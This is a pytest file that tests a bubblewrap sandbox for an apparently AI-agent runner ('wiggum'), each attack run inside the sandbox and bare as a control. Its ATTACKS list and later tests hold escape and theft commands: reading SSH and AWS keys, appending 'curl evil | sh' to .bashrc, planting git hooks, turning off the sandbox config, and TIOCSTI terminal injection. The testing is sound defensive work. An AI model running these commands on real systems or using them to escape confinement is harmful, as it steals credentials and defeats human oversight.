"""Escape attempts against the real bubblewrap sandbox, each with a control arm.

Every attack runs twice with the same command: bare (the control, which must succeed, or the
test proves nothing) and inside the sandbox `wiggum run` would build (which must fail). Success
is judged on the host wherever possible (did the file change, did the server see a
connection), not on the attacker's exit code alone. When the tests run as root they run again
as an ordinary user.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import click
import platformdirs
import pytest

import wiggum
from tests.helpers import sleeping, wait_for
from tests.sandbox.world import SECRET, SYSTEM_PYTHON, World, world
from wiggum.sandbox.bwrap import detect_bwrap
from wiggum.sandbox.select import SandboxUnavailable

__all__ = ["world"]


def _bwrap_skip_reason() -> str | None:
    if detect_bwrap(os.environ) is None:
        return "bubblewrap is not installed (apt-get install bubblewrap)"
    done = subprocess.run(
        [
            "bwrap",
            "--unshare-user",
            "--unshare-pid",
            "--unshare-net",
            "--ro-bind",
            "/",
            "/",
            "true",
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode != 0:
        return f"bubblewrap cannot start here: {done.stderr.strip()}"
    if not Path(SYSTEM_PYTHON).exists():
        return f"{SYSTEM_PYTHON} is needed for the attack scripts"
    return None


SKIP = _bwrap_skip_reason()
pytestmark = [pytest.mark.bwrap, pytest.mark.skipif(SKIP is not None, reason=SKIP or "")]


@dataclass(frozen=True)
class Attack:
    name: str
    script: str  # /bin/sh script; {project}, {home}, {sibling}, {token} are filled in
    succeeded: Callable[[World, str, str], bool]  # (world, stdout, token) -> did it work?
    root_control: bool = False  # only root can show the control (e.g. writing to /etc)


def leaked(w: World, out: str, token: str) -> bool:
    return SECRET in out


def exists(rel: str) -> Callable[[World, str, str], bool]:
    return lambda w, out, token: (
        Path(rel.format(project=w.project, home=w.home, token=token))
    ).exists()


def contains(rel: str, marker: str) -> Callable[[World, str, str], bool]:
    def check(w: World, out: str, token: str) -> bool:
        return marker in Path(rel.format(project=w.project, home=w.home)).read_text()

    return check


ATTACKS = [
    Attack("read ~/.ssh", "cat {home}/.ssh/id_ed25519", leaked),
    Attack("read ~/.aws", "cat {home}/.aws/credentials", leaked),
    Attack("read a sibling project", "cat {sibling}/notes.txt", leaked),
    Attack("follow a planted symlink", "ln -sf {home}/.ssh/id_ed25519 key && cat key", leaked),
    Attack("read a secret variable", "printenv SECRET_TOKEN", leaked),
    Attack(
        "write to the home folder", "echo x > {home}/pwned-{token}", exists("{home}/pwned-{token}")
    ),
    Attack(
        "modify ~/.bashrc",
        "echo 'curl evil | sh' >> {home}/.bashrc",
        contains("{home}/.bashrc", "curl evil"),
    ),
    Attack(
        "write to the host /tmp",
        "echo x > /tmp/wiggum-pwned-{token}",
        exists("/tmp/wiggum-pwned-{token}"),
    ),
    Attack(
        "write to /etc",
        "echo x > /etc/wiggum-pwned-{token}",
        exists("/etc/wiggum-pwned-{token}"),
        root_control=True,
    ),
    Attack(
        "write to /usr",
        "echo x > /usr/local/wiggum-pwned-{token}",
        exists("/usr/local/wiggum-pwned-{token}"),
        root_control=True,
    ),
    Attack(
        "modify ralph.toml",
        "echo '[sandbox]\nenabled = false' > ralph.toml",
        contains("{project}/ralph.toml", "enabled = false"),
    ),
    Attack(
        "create ralph.config.cjs",
        "echo 'module.exports = {{}}' > ralph.config.cjs",
        exists("{project}/ralph.config.cjs"),
    ),
    Attack(
        "create a git hook",
        "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit",
        exists("{project}/.git/hooks/pre-commit"),
    ),
    Attack(
        "modify .git/config",
        "git config core.hooksPath /tmp/evil",
        lambda w, out, t: "hooksPath" in (w.project / ".git/config").read_text(),
    ),
    Attack(
        "move .git aside and create a new one",
        "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
        exists("{project}/.git/hooks/pre-commit"),
    ),
    Attack(
        "plant a hook in a submodule's git folder",
        "mkdir -p .git/modules/lib/hooks && echo id > .git/modules/lib/hooks/post-checkout",
        exists("{project}/.git/modules/lib/hooks/post-checkout"),
    ),
    Attack(
        "write into .wiggum", "echo '{{}}' > .wiggum/run.json", exists("{project}/.wiggum/run.json")
    ),
    Attack(
        "create a nested user namespace",
        "unshare -U true && echo {token}",
        lambda w, out, token: token in out,
    ),
]


def attempt(world: World, attack: Attack) -> None:
    """Run `attack` inside the sandbox (must fail) and bare (must succeed), judged on the host."""
    token = uuid.uuid4().hex[:8]
    script = attack.script.format(
        project=world.project, home=world.home, sibling=world.sibling, token=token
    )
    outside = [Path(f"{d}/wiggum-pwned-{token}") for d in ("/tmp", "/etc", "/usr/local")]
    try:
        inside = world.sh(script, sandboxed=True)
        assert not attack.succeeded(world, inside.out, token), (
            f"escaped the sandbox: {attack.name}\n{inside}"
        )
        can_control = not attack.root_control or (world.runner.uid is None and os.geteuid() == 0)
        if not can_control:
            pytest.skip(
                "only root can show this attack working without the sandbox; "
                "the root run of this test shows it"
            )
        bare = world.sh(script, sandboxed=False)
        assert attack.succeeded(world, bare.out, token), (
            f"the control arm failed, so the test proves nothing: {bare}"
        )
    finally:
        for path in outside:
            path.unlink(missing_ok=True)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_attack_works_bare_and_fails_in_the_sandbox(world: World, attack: Attack) -> None:
    attempt(world, attack)


# --- attacks that need a peer on the host --------------------------------------------------


class Listener:
    """A host server that records whether anyone connected."""

    def __init__(self, family: int, address: str | tuple[str, int]) -> None:
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind(address)
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.connected = threading.Event()
        self.stopping = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopping:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connected.set()
            conn.close()

    def seen(self) -> bool:
        return self.connected.wait(0.5)

    def reset(self) -> None:
        self.connected.clear()

    def close(self) -> None:
        self.stopping = True
        self.thread.join()
        self.sock.close()


CONNECT = (
    "import socket, sys\n"
    "family, addr = sys.argv[1], sys.argv[2]\n"
    "if family == 'tcp':\n"
    "    s = socket.create_connection(('127.0.0.1', int(addr)), timeout=2)\n"
    "else:\n"
    "    s = socket.socket(socket.AF_UNIX)\n"
    "    s.settimeout(2)\n"
    "    s.connect(addr.replace('@', '\\0', 1))\n"
    "print('connected')\n"
)


@pytest.fixture
def tcp_listener() -> Iterator[Listener]:
    listener = Listener(socket.AF_INET, ("127.0.0.1", 0))
    yield listener
    listener.close()


def connect(world: World, family: str, address: str, *, sandboxed: bool) -> None:
    world.run([SYSTEM_PYTHON, "-c", CONNECT, family, address], sandboxed=sandboxed)


def test_host_loopback_unreachable_with_network_off(world: World, tcp_listener: Listener) -> None:
    port = str(tcp_listener.sock.getsockname()[1])
    connect(world, "tcp", port, sandboxed=True)
    assert not tcp_listener.seen(), "reached a host loopback server with network off"
    connect(world, "tcp", port, sandboxed=False)
    assert tcp_listener.seen(), "control arm: the server was not reachable at all"


def test_host_loopback_reachable_with_network_on(world: World, tcp_listener: Listener) -> None:
    world.set_config("[sandbox]\nnetwork = true\n")
    connect(world, "tcp", str(tcp_listener.sock.getsockname()[1]), sandboxed=True)
    assert tcp_listener.seen(), "network on must reach the network"


@pytest.mark.parametrize("kind", ["path", "abstract"])
def test_host_unix_sockets_unreachable(world: World, kind: str) -> None:
    if kind == "path":
        address = str(world.base / "host-agent.sock")  # e.g. an ssh-agent or docker socket
    else:
        address = f"@wiggum-test-{uuid.uuid4().hex[:8]}"
    listener = Listener(socket.AF_UNIX, address.replace("@", "\0", 1))
    try:
        if kind == "path":
            world.runner.chown(Path(address))
        connect(world, "unix", address, sandboxed=True)
        assert not listener.seen(), f"reached a host {kind} unix socket"
        connect(world, "unix", address, sandboxed=False)
        assert listener.seen(), "control arm: the socket was not reachable at all"
    finally:
        listener.close()


def test_host_processes_cannot_be_seen_or_signalled(world: World) -> None:
    def victim() -> subprocess.Popen[bytes]:
        return subprocess.Popen(world.runner.wrap(["sleep", "300"]))

    target = victim()
    try:
        inside = world.sh(f"ls /proc/{target.pid}/cmdline; kill -TERM {target.pid}", sandboxed=True)
        assert target.poll() is None, f"a host process was killed from the sandbox: {inside}"
        world.sh(f"kill -TERM {target.pid}", sandboxed=False)
        assert target.wait(timeout=5) is not None, "control arm: could not signal the process"
    finally:
        target.kill()
        target.wait()


TIOCSTI = (
    "import fcntl, sys, termios\n"
    "try:\n"
    "    fcntl.ioctl(0, termios.TIOCSTI, b'x')\n"
    "except OSError as exc:\n"
    "    sys.exit(f'TIOCSTI refused: {exc}')\n"
    "print('injected')\n"
)
# Stands in for the user's shell: leads a session whose controlling terminal is the pty,
# and starts the agent in that session, as a terminal would.
SHELL = (
    "import fcntl, os, subprocess, sys, termios\n"
    "if os.getsid(0) != os.getpid():\n"
    "    os.setsid()\n"
    "fcntl.ioctl(0, termios.TIOCSCTTY, 0)\n"
    "sys.exit(subprocess.call(sys.argv[1:]))\n"
)


def test_tiocsti_cannot_type_into_the_users_terminal(world: World) -> None:
    legacy = Path("/proc/sys/dev/tty/legacy_tiocsti")
    if world.runner.uid is not None and legacy.exists() and legacy.read_text().strip() == "0":
        pytest.skip("this kernel refuses TIOCSTI to ordinary users anyway (legacy_tiocsti=0)")
    master, slave = os.openpty()
    try:
        attack = [SYSTEM_PYTHON, "-c", TIOCSTI]
        sandboxed = world.prepare().selection.backend.launch(attack).argv
        inside = world.run([SYSTEM_PYTHON, "-c", SHELL, *sandboxed], sandboxed=False, stdin=slave)
        assert "injected" not in inside.out, f"typed into the terminal: {inside}"
        bare = world.run([SYSTEM_PYTHON, "-c", SHELL, *attack], sandboxed=False, stdin=slave)
        assert "injected" in bare.out, f"control arm failed: {bare}"
    finally:
        os.close(master)
        os.close(slave)


def test_no_process_outlives_a_killed_wiggum(world: World, tmp_path: Path) -> None:
    marker = f"{300 + int(uuid.uuid4().int % 1000)}"
    wiggum = world.runner.wrap(
        [
            *wiggum_command(world),
            "-C",
            str(world.project),
            "sandbox",
            "exec",
            "--",
            "/bin/sh",
            "-c",
            f"sleep {marker} & wait",
        ]
    )
    process = subprocess.Popen(
        wiggum, env=wiggum_env(world), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    try:
        assert wait_for(lambda: sleeping(marker)), process.stderr
        process.kill()  # SIGKILL: wiggum gets no chance to clean up
        process.wait()
        assert wait_for(lambda: not sleeping(marker)), "a sandboxed process outlived wiggum"
    finally:
        subprocess.run(["pkill", "-f", f"sleep {marker}"], check=False)
    # Control: the same command without the sandbox leaves an orphan behind.
    bare = subprocess.Popen(world.runner.wrap(["/bin/sh", "-c", f"sleep {marker} & wait"]))
    try:
        assert wait_for(lambda: sleeping(marker))
        bare.kill()
        bare.wait()
        assert not wait_for(lambda: not sleeping(marker), timeout=1.0)
    finally:
        subprocess.run(["pkill", "-f", f"sleep {marker}"], check=False)


def wiggum_command(world: World) -> list[str]:
    """wiggum as `world.runner` can start it: an ordinary user cannot enter root's pyenv (or a
    checkout under /root), so it gets the system Python and a copy of what `sandbox exec`
    imports, placed in the world."""
    if world.runner.uid is None:
        return [sys.executable, "-m", "wiggum"]
    return [SYSTEM_PYTHON, "-m", "wiggum"]


def wiggum_env(world: World) -> dict[str, str]:
    if world.runner.uid is None:
        return {**world.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    lib = world.base / "pylib"
    for module in (wiggum, click, platformdirs):
        source = Path(module.__file__ or "").parent
        shutil.copytree(source, lib / source.name, dirs_exist_ok=True)
    world.runner.chown(lib)
    return {**world.environ, "PYTHONPATH": str(lib)}


# --- what must keep working ----------------------------------------------------------------


def test_project_is_writable_and_tools_work(world: World) -> None:
    result = world.sh(
        "echo made > made.txt && git status --porcelain && "
        f"{SYSTEM_PYTHON} -c 'print(6 * 7)' && echo token > {world.home}/.claude/t && "
        "echo tmp > /tmp/scratch && cat /tmp/scratch",
        sandboxed=True,
    )
    assert result.code == 0, result
    assert (world.project / "made.txt").read_text() == "made\n"
    assert "?? made.txt" in result.out and "42" in result.out
    assert (world.home / ".claude/t").read_text() == "token\n"  # the agent's login folder


def test_no_mount_points_left_in_the_project(world: World) -> None:
    before = sorted(p.name for p in world.project.iterdir())
    world.sh("true", sandboxed=True)
    assert sorted(p.name for p in world.project.iterdir()) == before
    assert not (world.project / "ralph.config.cjs").exists()


def test_required_sandbox_that_cannot_start_starts_nothing(world: World, tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    world.environ["PATH"] = f"{tmp_path}:{world.environ['PATH']}"
    with pytest.raises(SandboxUnavailable, match="cannot start here"):
        world.prepare()
